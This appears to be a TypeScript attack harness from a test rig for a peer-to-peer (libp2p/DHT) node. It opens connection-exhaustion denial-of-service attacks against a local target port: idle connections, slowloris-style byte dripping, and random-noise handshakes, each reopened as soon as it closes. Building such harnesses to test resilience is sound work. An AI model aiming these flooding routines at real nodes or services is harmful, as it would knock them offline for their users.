/**
 * `fork` it with the name of an attack: does it to `--target` until it is killed, and tells when it is under way. What it knows of the victim is what
 * anybody can know: the address, and the name of the root in the DHT.
 */

import { randomBytes } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import { parseArgs } from 'node:util'
import { multiaddr } from '@multiformats/multiaddr'
import { ATTACKER_ADDRESS } from './rig.ts'

const { positionals, values } = parseArgs({
  allowPositionals: true,
  options: {
    target: { type: 'string', default: '' },
    root: { type: 'string', default: '' },
    count: { type: 'string', default: '128' },
    from: { type: 'string', default: ATTACKER_ADDRESS }
  }
})
const { target, from } = values
const count = Number(values.count)
const port = Number(multiaddr(target).getComponents()[1]?.value)

function dial(): Promise<Socket> {
  const { promise, resolve } = Promise.withResolvers<Socket>()
  const socket = connect({ port, host: '127.0.0.1', localAddress: from }, () => resolve(socket))
  socket.on('error', () => resolve(socket))
  return promise
}

/** Connections that say nothing, opened again as soon as they are closed. */
async function silent(): Promise<void> {
  const keep = async (): Promise<void> => {
    const socket = await dial()
    socket.on('data', () => {})
    socket.on('close', () => setTimeout(keep, 20))
    if (socket.destroyed) setTimeout(keep, 20)
  }
  await Promise.all(Array.from({ length: count }, keep))
}

/** Connections that begin to negotiate and then send a byte now and then. */
async function dripping(): Promise<void> {
  const keep = async (): Promise<void> => {
    const socket = await dial()
    const timer = setInterval(() => socket.write(Uint8Array.of(0x13)), 1000)
    socket.on('data', () => {})
    socket.write(Uint8Array.of(0x13))
    socket.on('close', () => {
      clearInterval(timer)
      setTimeout(keep, 20)
    })
  }
  await Promise.all(Array.from({ length: count }, keep))
}

/** Connections that send noise where a handshake should be, as many as get through. */
async function noise(): Promise<void> {
  const again = async (): Promise<void> => {
    const socket = await dial()
    socket.on('data', () => {})
    socket.on('close', () => setImmediate(again))
    socket.end(randomBytes(200))
  }
  await Promise.all(Array.from({ length: count }, again))
}

const ATTACKS: Record<string, () => Promise<void>> = { silent, dripping, noise }
const attack = ATTACKS[positionals[0] ?? '']
if (attack === undefined) throw new RangeError(`no attack ${positionals[0]}`)
await attack()
process.send?.('under way')
